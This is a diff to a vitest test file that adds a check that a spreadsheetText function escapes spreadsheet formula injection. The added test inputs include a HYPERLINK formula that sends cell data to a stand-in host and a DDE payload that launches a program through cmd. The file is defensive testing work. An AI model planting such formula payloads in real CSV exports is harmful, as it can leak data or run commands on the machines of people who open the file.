@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { ProgressLine, bar, commandLine, csvField, csvLines, displayWidth, formatDuration, formatNumber, formatParams, renderStacked, renderTable, renderWrappedTable, shellWord } from "./format.js";
+import { ProgressLine, bar, commandLine, csvField, csvLines, displayWidth, formatDuration, formatNumber, formatParams, renderStacked, renderTable, renderWrappedTable, shellWord, spreadsheetText } from "./format.js";
 
 describe("format", () => {
   it("quotes a word for a shell only when it must, so a printed command can be pasted", () => {
@@ -129,6 +129,13 @@ describe("format", () => {
     expect(csvField('say "hi", twice')).toBe('"say ""hi"", twice"');
     expect(csvField("two\nlines")).toBe('"two\nlines"');
     expect([...csvLines(["a", "b"], [["1", "x,y"]])]).toEqual(["a,b\r\n", '1,"x,y"\r\n']);
+  });
+
+  it("keeps text a spreadsheet would run as a formula from being one, and leaves text that is a number alone", () => {
+    for (const formula of ["=SUM(A1:A9)", '=HYPERLINK("https://x.test/?"&A2,"details")', "+cmd|' /C calc'!A0", "-2+3", "-O2", "@SUM(1)", "\t=1+1", "\r=1+1", "-Infinity", "-"]) {
+      expect(spreadsheetText(formula)).toBe(`'${formula}`);
+    }
+    for (const text of ["-1", "+0.5", "-1.5e-3", "-.5", "1e300", "plain", "a=b", "", " =x", "'quoted", "ünïcode"]) expect(spreadsheetText(text)).toBe(text);
   });
 });
 
